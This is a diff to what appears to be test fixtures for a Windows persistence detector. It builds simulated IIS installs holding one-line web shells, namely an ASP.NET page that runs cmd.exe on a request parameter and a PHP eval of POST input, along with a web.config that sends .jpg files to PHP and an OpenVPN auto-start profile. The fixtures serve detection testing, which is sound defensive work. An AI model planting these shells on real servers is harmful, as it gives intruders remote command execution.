@@ -268,3 +268,43 @@ told('command-for-a-listed-batch-file', 'The batch file carries out its paramete
 told('folder-for-a-listed-batch-file', 'Code without a folder acts on that which the task names.', 'Publish-Things', rf'{SYSTEM}\cmd.exe /c {SYSTEM}\silcollector.cmd publish',
      ('listed.cmd', rf'{SYSTEM}\silcollector.cmd', None), folder=r'C:\ProgramData\x')
 told('program-for-a-signed-script', 'A script may start what it is told of.', 'x.exe', rf'{FILE} -Program {EVIL}', ('ascii.ps1', TIDY, None), payload=EVIL)
+
+
+# --- pages that run for whoever asks ---
+WEB = r'%windir%\system32\svchost.exe -k iissvcs'
+
+
+def site(d, config=None):
+    """The web server as it is installed."""
+    d.windows(r'inetsrv\iisw3adm.dll')
+    d.service('W3SVC', WEB, 2, 0x20)
+    d.system(rf'{SERVICES}\W3SVC\Parameters', 'ServiceDll', EXPAND, r'%windir%\system32\inetsrv\iisw3adm.dll')
+    if config:
+        d.put(r'Windows\System32\inetsrv\config\applicationHost.config', f'<configuration><system.applicationHost><sites><site name="d" id="1"><application path="/">'
+              f'<virtualDirectory path="/" physicalPath="{config}"/></application></site></sites></system.applicationHost></configuration>')
+
+
+def page(name, why, path, text, config=None, place=None):
+    change.row(name, why, 'WIN-PERSIST-003', place or path.rpartition('\\')[2], lambda d: (site(d, config), d.put(path, text)))
+
+
+page('page-that-runs-commands', 'A page of ASP.NET runs for whoever asks for it.', r'inetpub\wwwroot\x.aspx', '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>')
+page('page-of-another-folder', 'physicalPath says where the site is.', r'www\a\x.php', '<?php eval($_POST["c"]);', r'%SystemDrive%\www')
+page('picture-that-is-a-page', 'A handler gives pictures to an interpreter.', r'inetpub\wwwroot\img\web.config', '<configuration><system.webServer><handlers>'
+     r'<add name="x" path="*.jpg" verb="*" scriptProcessor="C:\php\php-cgi.exe"/></handlers></system.webServer></configuration>', place='web.config')
+
+# --- a tunnel that waits for its profile ---
+OPENVPN = r'C:\Program Files\OpenVPN'
+
+
+def openvpn(d):
+    """OpenVPN as its installer leaves it."""
+    for name in ('openvpn', 'openvpnserv', 'openvpnserv2', 'openvpn-gui'):
+        d.honest(rf'{OPENVPN}\bin\{name}.exe')
+    d.software('OpenVPN', 'config_dir', SZ, rf'{OPENVPN}\config')
+    d.service('OpenVPNServiceInteractive', rf'"{OPENVPN}\bin\openvpnserv.exe"')
+    d.service('OpenVPNService', rf'"{OPENVPN}\bin\openvpnserv2.exe"', 3)
+
+
+change.row('tunnel-with-its-profile', 'The service opens each profile of the folder.', 'WIN-PERSIST-003', 'OpenVPNServiceInteractive', lambda d: (
+    openvpn(d), d.put(rf'{OPENVPN}\config-auto\corp.ovpn', 'client\nremote 203.0.113.9 1194\n')))
